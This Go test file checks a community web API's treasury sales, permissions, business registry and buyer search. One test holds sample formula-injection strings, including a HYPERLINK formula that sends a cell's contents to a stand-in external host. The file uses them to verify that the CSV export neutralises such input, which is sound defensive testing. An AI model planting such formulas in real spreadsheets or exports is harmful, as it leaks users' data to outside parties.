package webapi

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"

	"zocalo/core/authz"
	"zocalo/core/db"
	"zocalo/core/treasury"
	"zocalo/internal/testdb"
)

func treasuryPersonas(e *env) map[string]string {
	e.addUser("tesoreria", "570000000000000001", true, authz.Tesoreria)
	e.addUser("auditor", "570000000000000002", true, authz.Auditor)
	e.addUser("comite", "570000000000000003", true, authz.Comite)
	e.addUser("moderador", "570000000000000004", true, authz.Moderador)
	e.addUser("jugador", "570000000000000005", true)
	e.addUser("rh", "570000000000000006", true, authz.RH)
	e.addUser("oficina", "570000000000000007", true, authz.Oficina, authz.Diputado)
	e.addUser("diputado", "570000000000000008", true, authz.Diputado)
	tokens := map[string]string{"": ""}
	for _, p := range []string{"tesoreria", "auditor", "comite", "moderador", "jugador", "rh", "oficina", "diputado"} {
		tokens[p] = e.signIn(p)
	}
	return tokens
}

type saleView struct {
	ID             uint64  `json:"_id"`
	BuyerUsername  string  `json:"buyerUsername"`
	Item           string  `json:"item"`
	Currency       string  `json:"currency"`
	OriginalPrice  float64 `json:"originalPrice"`
	Discount       float64 `json:"discount"`
	FinalPrice     float64 `json:"finalPrice"`
	SellerUsername string  `json:"sellerUsername"`
	Voided         bool    `json:"voided"`
}

func TestSalesPermissionsAndPrices(t *testing.T) {
	t.Parallel()
	testdb.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		tok := treasuryPersonas(e)
		sale := map[string]any{"buyerDiscordId": "570000000000000005", "item": "PAQUETE2_LEGAL", "discount": 20,
			"finalPrice": 1, "originalPrice": 1}
		for who, want := range map[string]int{"": 401, "jugador": 403, "moderador": 403, "diputado": 403,
			"tesoreria": 201, "auditor": 201, "comite": 201} {
			var v saleView
			if code := e.call("POST", "/api/treasury/sales", tok[who], body(sale), &v); code != want {
				t.Fatalf("%q registers: %d, want %d", who, code, want)
			}
			if want == 201 && (v.OriginalPrice != 140 || v.FinalPrice != 112 || v.Discount != 20 || v.BuyerUsername != "jugador" || v.SellerUsername != who) {
				t.Fatalf("%q: the forged prices were not ignored: %+v", who, v)
			}
			for _, path := range []string{"/api/treasury/sales", "/api/treasury/members", "/api/treasury/summary", "/api/treasury/catalogue", "/api/treasury/sales/export"} {
				want := map[int]int{201: 200, 401: 401, 403: 403}[want]
				if code := e.call("GET", path, tok[who], nil, nil); code != want && !(path == "/api/treasury/sales/export" && code == want) {
					t.Fatalf("%q GET %s: %d, want %d", who, path, code, want)
				}
			}
		}
		var msg messageBody
		for name, bad := range map[string]map[string]any{
			"unknown item":  {"buyerDiscordId": "570000000000000005", "item": "COCHE", "discount": 0},
			"no item":       {"buyerDiscordId": "570000000000000005", "discount": 0},
			"no buyer":      {"item": "VIP", "discount": 0},
			"unknown buyer": {"buyerDiscordId": "570000000000000099", "item": "VIP", "discount": 0},
		} {
			if code := e.call("POST", "/api/treasury/sales", tok["tesoreria"], body(bad), &msg); code != 400 || msg.Message == "" {
				t.Fatalf("%s: %d %q", name, code, msg.Message)
			}
		}
		var pass, clamped saleView
		e.call("POST", "/api/treasury/sales", tok["tesoreria"], body(map[string]any{"buyerDiscordId": "570000000000000005", "item": "PASE", "discount": 150}), &clamped)
		if clamped.Currency != "ROBUX" || clamped.OriginalPrice != 550 || clamped.FinalPrice != 0 || clamped.Discount != 100 {
			t.Fatalf("the pass at 150 %%: %+v", clamped)
		}
		e.call("POST", "/api/treasury/sales", tok["tesoreria"], body(map[string]any{"buyerDiscordId": "570000000000000005", "item": "INVERSOR", "discount": -5}), &pass)
		if pass.FinalPrice != 300 || pass.Discount != 0 {
			t.Fatalf("a negative discount: %+v", pass)
		}

		var list []saleView
		if code := e.call("GET", "/api/treasury/sales?limit=2", tok["auditor"], nil, &list); code != 200 || len(list) != 2 || list[0].ID != pass.ID || list[1].ID != clamped.ID {
			t.Fatalf("newest first, limited: %d %+v", code, list)
		}
		if code := e.call("GET", fmt.Sprintf("/api/treasury/sales?before=%d&item=PAQUETE2_LEGAL", clamped.ID), tok["auditor"], nil, &list); code != 200 || len(list) != 3 {
			t.Fatalf("paged and filtered: %d %+v", code, list)
		}

		// Voiding: TESORERIA (and AUDITOR through it) and ADMIN; never twice; out of the totals.
		if code := e.call("POST", fmt.Sprintf("/api/treasury/sales/%d/void", pass.ID), tok["moderador"], body(map[string]string{"reason": "x"}), nil); code != 403 {
			t.Fatalf("a moderator voids: %d", code)
		}
		if code := e.call("POST", fmt.Sprintf("/api/treasury/sales/%d/void", pass.ID), tok["tesoreria"], body(map[string]string{"reason": ""}), nil); code != 400 {
			t.Fatalf("void without a reason: %d", code)
		}
		var before, after struct {
			TotalSales     int64   `json:"totalSales"`
			MonthIncomeMXN float64 `json:"monthIncomeMXN"`
			Members        int     `json:"members"`
		}
		e.call("GET", "/api/treasury/summary", tok["auditor"], nil, &before)
		var voided saleView
		if code := e.call("POST", fmt.Sprintf("/api/treasury/sales/%d/void", pass.ID), tok["tesoreria"], body(map[string]string{"reason": "Pago devuelto"}), &voided); code != 200 || !voided.Voided {
			t.Fatalf("void: %d %+v", code, voided)
		}
		if code := e.call("POST", fmt.Sprintf("/api/treasury/sales/%d/void", pass.ID), tok["comite"], body(map[string]string{"reason": "otra vez"}), nil); code != 409 {
			t.Fatalf("void twice: %d", code)
		}
		e.call("GET", "/api/treasury/summary", tok["auditor"], nil, &after)
		if before.TotalSales != 5 || after.TotalSales != 4 || before.MonthIncomeMXN != 3*112+300 || after.MonthIncomeMXN != 3*112 || after.Members != 2 {
			t.Fatalf("summary before %+v, after %+v", before, after)
		}
		e.call("GET", "/api/treasury/sales", tok["auditor"], nil, &list)
		if len(list) != 5 || !list[0].Voided {
			t.Fatalf("the voided sale is not listed, marked: %+v", list)
		}
		var members []struct{ ID, Username string }
		if code := e.call("GET", "/api/treasury/members", tok["auditor"], nil, &members); code != 200 || len(members) != 2 || members[0].Username != "auditor" {
			t.Fatalf("members %d %+v", code, members)
		}

		req, _ := http.NewRequest("GET", e.http.URL+"/api/treasury/sales/export?item=PAQUETE2_LEGAL", nil)
		req.Header.Set("Authorization", "Bearer "+tok["auditor"])
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		csvBody, _ := io.ReadAll(res.Body)
		res.Body.Close()
		lines := strings.Split(strings.TrimSpace(string(csvBody)), "\n")
		if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") || len(lines) != 4 || !strings.Contains(lines[1], "PAQUETE2_LEGAL,MXN,140.00,20.00,112.00") {
			t.Fatalf("export %d %q: %q", res.StatusCode, res.Header.Get("Content-Type"), lines)
		}
	})
}

func TestConcurrentSalesAreAllRecorded(t *testing.T) {
	t.Parallel()
	testdb.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		tok := treasuryPersonas(e)
		var wg sync.WaitGroup
		codes := make(chan int, 50)
		for i := range 50 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				who := []string{"tesoreria", "auditor"}[i%2]
				codes <- e.call("POST", "/api/treasury/sales", tok[who], body(map[string]any{"buyerDiscordId": "570000000000000005", "item": "VIP", "discount": i}), nil)
			}()
		}
		wg.Wait()
		close(codes)
		for code := range codes {
			if code != 201 {
				t.Fatalf("a sale answered %d", code)
			}
		}
		if n := count(t, d, &treasury.Sale{}); n != 50 {
			t.Fatalf("%d sales stored", n)
		}
		var queued int64
		if err := d.Conn(t.Context()).Table("outbox_events").Where("channel_id = ?", e.cfg.Channels.Treasury).Count(&queued).Error; err != nil || queued != 50 {
			t.Fatalf("%d sales posted to the treasury channel (%v)", queued, err)
		}
	})
}

func TestBusinessRegistry(t *testing.T) {
	t.Parallel()
	testdb.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		tok := treasuryPersonas(e)
		fields := func(rfc string) map[string]string {
			return map[string]string{"name": "Tacos El Güero", "location": "Av. Juárez 12", "server": "Principal",
				"rfc": rfc, "ownerName": "Juan Pérez", "ownerDiscordId": "570000000000000005"}
		}
		pdf := upload{name: "acta.pdf", data: []byte("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")}
		exe := upload{name: "acta.pdf", data: append([]byte("MZ\x90\x00\x03\x00\x00\x00"), make([]byte, 64)...)}
		logo := upload{name: "logo.png", data: tinyPNG}
		var msg messageBody
		for who, want := range map[string]int{"": 401, "jugador": 403, "tesoreria": 403, "diputado": 403} {
			if code := e.formFiles("POST", "/api/sat/businesses", tok[who], fields("TEG240101AB1"), map[string][]upload{"documents": {pdf}}, &msg); code != want {
				t.Fatalf("%q registers: %d, want %d", who, code, want)
			}
		}
		before := uploadedFiles(t, e.uploadsDir)
		for name, c := range map[string]struct {
			rfc   string
			files []upload
		}{
			"bad RFC shape":     {"TEG24", []upload{pdf}},
			"RFC with no date":  {"TEG241301AB1", []upload{pdf}},
			"an .exe named pdf": {"TEG240101AB1", []upload{pdf, exe}},
		} {
			if code := e.formFiles("POST", "/api/sat/businesses", tok["comite"], fields(c.rfc), map[string][]upload{"documents": c.files}, &msg); code != 400 || msg.Message == "" {
				t.Fatalf("%s: %d %q", name, code, msg.Message)
			}
		}
		if after := uploadedFiles(t, e.uploadsDir); after != before {
			t.Fatalf("refused registrations left %d files", after-before)
		}
		var created struct {
			ID        uint64
			RFC       string `json:"rfc"`
			Logo      string
			Documents []struct{ URL, Filename string }
		}
		if code := e.formFiles("POST", "/api/sat/businesses", tok["comite"], fields("teg240101ab1"), map[string][]upload{"documents": {pdf}, "logo": {logo}}, &created); code != 201 ||
			len(created.Documents) != 1 || created.Logo == "" {
			t.Fatalf("register: %d %+v", code, created)
		}
		if code := e.formFiles("POST", "/api/sat/businesses", tok["rh"], fields("TEG240101AB1"), nil, &msg); code != 409 {
			t.Fatalf("a duplicate RFC: %d %q", code, msg.Message)
		}

		// Confidential fields: present for DIPUTADO holders only, absent from the JSON otherwise.
		raw := func(who string) string {
			req, _ := http.NewRequest("GET", e.http.URL+"/api/sat/businesses", nil)
			req.Header.Set("Authorization", "Bearer "+tok[who])
			res, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(res.Body)
			res.Body.Close()
			if res.StatusCode != 200 {
				t.Fatalf("%s lists: %d", who, res.StatusCode)
			}
			return string(b)
		}
		for _, who := range []string{"rh", "comite"} {
			if got := raw(who); strings.Contains(got, "TEG240101AB1") || strings.Contains(got, `"rfc"`) || strings.Contains(got, `"owner"`) || strings.Contains(got, "Juan Pérez") {
				t.Fatalf("%s sees confidential data: %s", who, got)
			}
		}
		if got := raw("oficina"); !strings.Contains(got, `"rfc":"TEG240101AB1"`) || !strings.Contains(got, `"owner":{"name":"Juan Pérez","discordId":"570000000000000005"`) {
			t.Fatalf("oficina lacks the confidential data: %s", got)
		}
		if code := e.call("GET", created.Documents[0].URL, tok["rh"], nil, nil); code != 200 {
			t.Fatalf("download by an admin: %d", code)
		}
		if code := e.call("GET", created.Documents[0].URL, tok["tesoreria"], nil, nil); code != 403 {
			t.Fatalf("download by treasury: %d", code)
		}
		if code := e.call("GET", created.Logo, "", nil, nil); code != 200 {
			t.Fatalf("the logo: %d", code)
		}

		var changed struct{ Status, Name string }
		if code := e.call("PUT", fmt.Sprintf("/api/sat/businesses/%d/status", created.ID), tok["comite"], body(map[string]string{"status": "suspended"}), &changed); code != 200 || changed.Status != "suspended" {
			t.Fatalf("suspend: %d %+v", code, changed)
		}
		edit := fields("TEG240101AB1")
		edit["name"] = "Tacos El Güero II"
		if code := e.call("PUT", fmt.Sprintf("/api/sat/businesses/%d", created.ID), tok["rh"], body(edit), &changed); code != 200 || changed.Name != "Tacos El Güero II" {
			t.Fatalf("edit: %d %+v", code, changed)
		}
		if code := e.call("PUT", fmt.Sprintf("/api/sat/businesses/%d", created.ID), tok["tesoreria"], body(edit), nil); code != 403 {
			t.Fatalf("edit by treasury: %d", code)
		}

		// An admin who cannot see the RFC and the owner cannot change them: they may leave
		// them out, and a value they send anyway is not stored.
		publicOnly := map[string]string{"name": "Tacos El Güero III", "location": edit["location"], "server": edit["server"]}
		if code := e.call("PUT", fmt.Sprintf("/api/sat/businesses/%d", created.ID), tok["comite"], body(publicOnly), &changed); code != 200 || changed.Name != "Tacos El Güero III" {
			t.Fatalf("edit without the confidential fields: %d %+v", code, changed)
		}
		forged := fields("ZZZ240101AB1")
		forged["ownerName"] = "Otro Dueño"
		if code := e.call("PUT", fmt.Sprintf("/api/sat/businesses/%d", created.ID), tok["rh"], body(forged), nil); code != 200 {
			t.Fatalf("edit with forged confidential fields: %d", code)
		}
		if got := raw("oficina"); !strings.Contains(got, `"rfc":"TEG240101AB1"`) || !strings.Contains(got, `"name":"Juan Pérez"`) || strings.Contains(got, "Otro Dueño") {
			t.Fatalf("a non-DIPUTADO admin changed the confidential fields: %s", got)
		}
		byDiputado := fields("TEG240101AB2")
		if code := e.call("PUT", fmt.Sprintf("/api/sat/businesses/%d", created.ID), tok["oficina"], body(byDiputado), nil); code != 200 {
			t.Fatalf("edit by oficina: %d", code)
		}
		if got := raw("oficina"); !strings.Contains(got, `"rfc":"TEG240101AB2"`) {
			t.Fatalf("oficina's RFC change was not stored: %s", got)
		}
	})
}

// A name or a reason that a spreadsheet would run as a formula is exported as text; the
// amounts the treasury writes stay numbers.
func TestSalesExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	testdb.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		tok := treasuryPersonas(e)
		hostile := []string{`=HYPERLINK("https://example.com/?d="&A1,"Ver")`, "+1", "-2", "@SUM(A1)", "\tx", "\rx"}
		at := e.clock.Now()
		for i, text := range hostile {
			sale := treasury.Sale{BuyerDiscordID: "570000000000000005", BuyerUsername: text, Item: "VIP", Currency: treasury.CurrencyMXN,
				OriginalPrice: 9000, DiscountBP: 1000, FinalPrice: 8100, SellerID: "570000000000000001", SellerName: text, CreatedAt: at,
				VoidedAt: &at, VoidedBy: "tesoreria", VoidReason: hostile[(i+1)%len(hostile)]}
			if err := d.Conn(t.Context()).Create(&sale).Error; err != nil {
				t.Fatal(err)
			}
		}
		req, _ := http.NewRequest("GET", e.http.URL+"/api/treasury/sales/export", nil)
		req.Header.Set("Authorization", "Bearer "+tok["auditor"])
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(res.Body)
		res.Body.Close()
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(raw), "\ufeff"))).ReadAll()
		if res.StatusCode != 200 || err != nil || len(rows) != 1+len(hostile) {
			t.Fatalf("export %d %v: %q", res.StatusCode, err, raw)
		}
		header := rows[0]
		col := func(name string) int { return slices.Index(header, name) }
		for _, row := range rows[1:] {
			for _, name := range []string{"comprador", "vendedor", "motivo_anulacion"} {
				cell := row[col(name)]
				if !strings.HasPrefix(cell, "'") || !slices.Contains(hostile, cell[1:]) {
					t.Errorf("%s exported as %q", name, cell)
				}
			}
			if row[col("precio_original")] != "90.00" || row[col("descuento")] != "10.00" || row[col("precio_final")] != "81.00" {
				t.Errorf("the amounts are not plain numbers: %q", row)
			}
		}
	})
}

// The new-sale form finds the buyer by name: those who register sales search the guild's
// members; the search is checked, and the sale still checks the id it is given.
func TestBuyerSearch(t *testing.T) {
	t.Parallel()
	testdb.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		tok := treasuryPersonas(e)
		e.addUser("jugadora_ex", "570000000000000009", false)
		type buyer struct{ ID, Username string }
		find := func(who, search string) (int, []buyer, string) {
			var raw json.RawMessage
			var found []buyer
			var msg messageBody
			code := e.call("GET", "/api/treasury/buyers?search="+search, tok[who], nil, &raw)
			if code == 200 {
				_ = json.Unmarshal(raw, &found)
			} else {
				_ = json.Unmarshal(raw, &msg)
			}
			return code, found, msg.Message
		}
		for who, want := range map[string]int{"": 401, "jugador": 403, "moderador": 403, "tesoreria": 200, "auditor": 200, "comite": 200} {
			if code, _, _ := find(who, "jug"); code != want {
				t.Errorf("%q searches buyers: %d, want %d", who, code, want)
			}
		}
		// Only members in the guild; names in any case.
		if code, found, _ := find("tesoreria", "JUGA"); code != 200 || len(found) != 1 || found[0].ID != "570000000000000005" || found[0].Username != "jugador" {
			t.Fatalf("search JUGA: %d %+v", code, found)
		}
		if _, found, _ := find("tesoreria", "5700000000000000"); len(found) != 8 {
			t.Fatalf("search by the start of an id: %+v", found)
		}
		for _, bad := range []string{"", "j", "%20%20", strings.Repeat("x", 101)} {
			if code, _, msg := find("tesoreria", bad); code != 400 || msg != "Escribe de 2 a 100 caracteres del nombre del comprador o de su ID de Discord." {
				t.Errorf("search %q: %d %q", bad, code, msg)
			}
		}
		// A member who left is not offered, and the sale refuses them still.
		if _, found, _ := find("tesoreria", "jugadora"); len(found) != 0 {
			t.Fatalf("a member who left the guild was offered: %+v", found)
		}
		var msg messageBody
		if code := e.call("POST", "/api/treasury/sales", tok["tesoreria"], body(map[string]any{"buyerDiscordId": "570000000000000009", "item": "VIP"}), &msg); code != 400 {
			t.Fatalf("a sale to a member who left: %d %q", code, msg.Message)
		}
	})
}
